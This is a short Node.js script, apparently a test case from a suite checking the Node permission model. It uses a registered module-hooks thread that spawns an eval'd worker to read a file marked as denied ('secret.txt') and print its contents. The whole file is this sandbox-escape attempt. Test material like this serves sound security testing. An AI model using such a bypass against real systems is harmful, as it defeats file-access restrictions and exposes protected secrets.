// A hooks thread starts a worker of its own, and that reads the file.
// denied: file:read secret.txt
// nodes: >=20
const lab = JSON.parse(process.argv[2]);
const { register } = require('node:module');
const inner = `require('fs').writeSync(1, require('fs').readFileSync(${JSON.stringify(lab.secret)}, 'utf8'))`;
register(`data:text/javascript,${encodeURIComponent(`import { Worker } from 'node:worker_threads'; await new Promise((done) => new Worker(${JSON.stringify(inner)}, { eval: true, execArgv: [], env: {} }).on('exit', done).on('error', done));`)}`);
import('node:url');
